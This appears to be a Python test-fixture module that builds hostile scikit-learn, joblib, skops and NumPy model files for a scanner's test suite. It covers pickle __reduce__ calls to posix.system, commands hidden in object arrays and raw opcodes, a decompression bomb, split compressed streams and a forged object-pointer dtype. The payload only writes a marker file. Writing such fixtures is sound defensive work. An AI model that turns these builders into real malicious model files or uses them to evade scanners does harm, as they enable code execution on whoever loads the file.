"""Hostile scikit-learn, joblib, skops and NumPy files, built at test time, each using its
format's own code path. Harmless outside the sandbox too: the payload writes a marker under a
temp path given by the test (inside the sandbox, the scratch tmpfs), nothing else; the
builders never load what they build.

- joblib_command: a joblib dump (plain or compressed) of a real estimator beside an object
  whose unpickling runs a shell command (joblib's pickle, its own REDUCE);
- joblib_object_array: the command hidden in an object array, which joblib writes as a nested
  pickle between the outer pickle's opcodes (joblib's own array path);
- npz_object_array: an .npz whose object array member is a pickle that runs the command
  (what np.load(allow_pickle=True) unpickles);
- skops_reduce: a skops archive whose schema names posix.system through skops's own
  ConstructorFromReduceNode (it calls the type it names with the arguments it stores);
- joblib_hidden_opcodes, joblib_oversized_array, joblib_bomb: the layout itself abused.
"""

from __future__ import annotations

import json
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np

from tests.fixtures import sklearn_models


class _Command:
    """Unpickles as os.system(command): pickled by reference to posix.system."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        import posix

        return posix.system, (self.command,)


def shell(marker: str) -> str:
    return f"echo pwned > {marker}"


def joblib_command(d: Path, marker: str, compress: str | None = None) -> Path:
    import joblib

    model = sklearn_models.logistic()
    p = d / (f"payload.{compress}.joblib" if compress else "payload.joblib")
    joblib.dump(
        {"model": model, "x": np.arange(3.0), "hook": _Command(shell(marker))},
        p,
        compress=(compress, 3) if compress else 0,
    )
    return p


def joblib_object_array(d: Path, marker: str, compress: str | None = None) -> Path:
    import joblib

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "benign", _Command(shell(marker))
    p = d / (f"objects.{compress}.joblib" if compress else "objects.joblib")
    joblib.dump({"w": np.ones(4), "objects": arr}, p, compress=(compress, 3) if compress else 0)
    return p


def npz_object_array(d: Path, marker: str) -> Path:
    arr = np.empty(1, dtype=object)
    arr[0] = _Command(shell(marker))
    p = d / "objects.npz"
    np.savez(p, weights=np.ones(3, np.float32), objects=arr)
    return p


def skops_reduce(d: Path, marker: str) -> Path:
    """A benign skops archive of a LogisticRegression whose schema gains one parameter, built
    by skops's ConstructorFromReduceNode from posix.system and the command."""
    p = sklearn_models.save_skops(sklearn_models.logistic(), d, "payload.skops")
    with zipfile.ZipFile(p) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    schema = json.loads(members["schema.json"])
    command = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode"}
    command |= {"content": json.dumps(shell(marker)), "is_json": True}
    args = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode"}
    args["content"] = [command]
    hook = {"__class__": "system", "__module__": "posix"}
    hook |= {"__loader__": "ConstructorFromReduceNode", "content": args}
    attrs = schema["content"]  # the estimator's __dict__: a DictNode, keys typed in order
    attrs["content"]["hook"] = hook
    key = {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}
    attrs["key_types"]["content"].append(key)
    members["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(p, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return p


# --- the layout abused (static only: these need no sandbox) ------------------------------------


def _wrapper_pickle(shape: tuple[int, ...], align: int | None) -> bytes:
    """A pickle that stops right after a NumpyArrayWrapper's BUILD, as joblib writes it."""
    body = bytearray(b"\x80\x02")
    body += b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
    body += b"X\x05\x00\x00\x00shape" + _tuple(shape)
    body += b"X\x05\x00\x00\x00dtypecnumpy\ndtype\nX\x02\x00\x00\x00f8\x89\x88\x87R"
    body += b"(K\x03X\x01\x00\x00\x00<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    body += b"X\x1b\x00\x00\x00numpy_array_alignment_bytes"
    body += (b"K" + bytes([align])) if align is not None else b"N"
    body += b"ub"
    return bytes(body)


def _tuple(shape: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(b"J" + struct.pack("<i", n) for n in shape) + b"t"


def joblib_hidden_opcodes(d: Path, marker: str) -> Path:
    """An unaligned wrapper whose 'array bytes' are opcodes that pickle.load would run (joblib
    skips them): the static read walks them as pickle.load would too."""
    hidden = b"cposix\nsystem\n(X" + struct.pack("<I", len(shell(marker)))
    hidden += shell(marker).encode() + b"tR."
    n = (len(hidden) + 7) // 8
    data = _wrapper_pickle((n,), None) + hidden.ljust(8 * n, b"0") + b"."
    p = d / "hidden.joblib"
    p.write_bytes(data)
    return p


def joblib_oversized_array(d: Path, marker: str) -> Path:
    """A wrapper that claims a million float64s in a file of a few hundred bytes."""
    p = d / "oversized.joblib"
    p.write_bytes(_wrapper_pickle((1_000_000,), 16) + b"\x08" + b"\xff" * 8 + b"\0" * 64 + b".")
    return p


def joblib_in_frame(d: Path, marker: str) -> Path:
    """A wrapper whose BUILD sits inside a pickle frame with opcodes after it: joblib reads
    the array after the frame and the opcodes later, in another order than the bytes."""
    body = _wrapper_pickle((1,), None)[2:] + b"cposix\nsystem\n0"
    framed = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body
    p = d / "framed.joblib"
    p.write_bytes(framed + b"\0" * 8 + b"N.")
    return p


def joblib_bomb(d: Path, marker: str) -> Path:
    """A zlib stream that inflates past the host's bound: a list of 1 MiB byte strings."""
    from runner.static import joblib_compressed

    count = (joblib_compressed.OUTPUT_FLOOR >> 20) + 8
    c = zlib.compressobj(1)
    item = b"\x8e" + struct.pack("<Q", 1 << 20) + b"\0" * (1 << 20)
    parts = [c.compress(b"\x80\x04](")]
    parts += [c.compress(item) for _ in range(count)]
    parts.append(c.compress(b"e.") + c.flush())
    p = d / "bomb.joblib"
    p.write_bytes(b"".join(parts))
    return p


# --- attacker review: layouts the host once read otherwise than joblib and numpy do ------------


def _dtype_wrapper(shape: tuple[int, ...], descr: bytes, copy: bool, flags: int) -> bytes:
    """A pickle that stops after a wrapper whose dtype is numpy.dtype(descr, False, copy) set
    to the state (3, '|', None, None, None, -1, -1, flags)."""
    body = bytearray(b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(")
    body += b"X\x05\x00\x00\x00shape" + _tuple(shape)
    body += b"X\x05\x00\x00\x00dtypecnumpy\ndtype\nX" + struct.pack("<I", len(descr)) + descr
    body += b"\x89" + (b"\x88" if copy else b"\x89") + b"\x87R"
    body += b"(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK"
    body += bytes([flags]) + b"tbX\x05\x00\x00\x00orderX\x01\x00\x00\x00C"
    body += b"X\x1b\x00\x00\x00numpy_array_alignment_bytesNub"
    return bytes(body)


def _nested_command(marker: str, room: int) -> bytes:
    """A pickle of the command padded with NONE, POP pairs to exactly `room` bytes."""
    import pickle

    for pad in range(2):
        nested = pickle.dumps(_Command(shell(marker) + " " * pad), protocol=2)
        if (room - len(nested)) % 2 == 0 and len(nested) <= room:
            return nested + b"N0" * ((room - len(nested)) // 2)
    raise ValueError("no room for the command")


def joblib_dtype_singleton(d: Path, marker: str, compress: str = "xz") -> Path:
    """An object array whose dtype is numpy.dtype('O8', False, False) (numpy's own singleton,
    whose __setstate__ numpy ignores) with a state saying it holds no objects: the host once
    skipped its 'array bytes', joblib reads them as a nested pickle that runs the command."""
    import bz2
    import lzma

    n = 32
    data = _dtype_wrapper((n,), b"O8", False, 0) + _nested_command(marker, 8 * n) + b"0N."
    packed = {"xz": lzma.compress, "bz2": bz2.compress, "zlib": zlib.compress}[compress](data)
    p = d / f"singleton.{compress}.joblib"
    p.write_bytes(packed)
    return p


def joblib_second_stream(d: Path, marker: str, compress: str = "xz") -> Path:
    """A joblib dump whose pickle goes on in a second concatenated xz (or bz2) stream, which
    lzma.LZMAFile and bz2.BZ2File read on into: the command is in the second."""
    import bz2
    import lzma
    import pickle

    data = pickle.dumps({"a": 1, "hook": _Command(shell(marker))}, protocol=2)
    pack = {"xz": lzma.compress, "bz2": bz2.compress}[compress]
    p = d / f"two-streams.{compress}.joblib"
    p.write_bytes(pack(data[:10]) + pack(data[10:]))
    return p


class _ForgedDtype:
    def __reduce__(self) -> tuple[Any, ...]:
        return (np.dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 0))


class _ForgedArray:
    """An object array built from raw bytes by numpy.ndarray.__setstate__, through a dtype whose
    flags say it holds no objects: numpy takes the bytes for object pointers (0x41414141...:
    reading it faults). Only allowed names (numpy.dtype, _reconstruct, ndarray)."""

    def __reduce__(self) -> tuple[Any, ...]:
        from numpy._core.multiarray import _reconstruct

        state = (1, (1,), _ForgedDtype(), False, b"\x41" * 8)
        return (_reconstruct, (np.ndarray, (0,), b"b"), state)


def forged_object_pointer(d: Path, marker: str, compress: int = 0) -> Path:
    import joblib

    p = d / f"forged{compress}.joblib"
    joblib.dump({"w": _ForgedArray(), "x": np.ones(3)}, p, compress=compress)
    return p
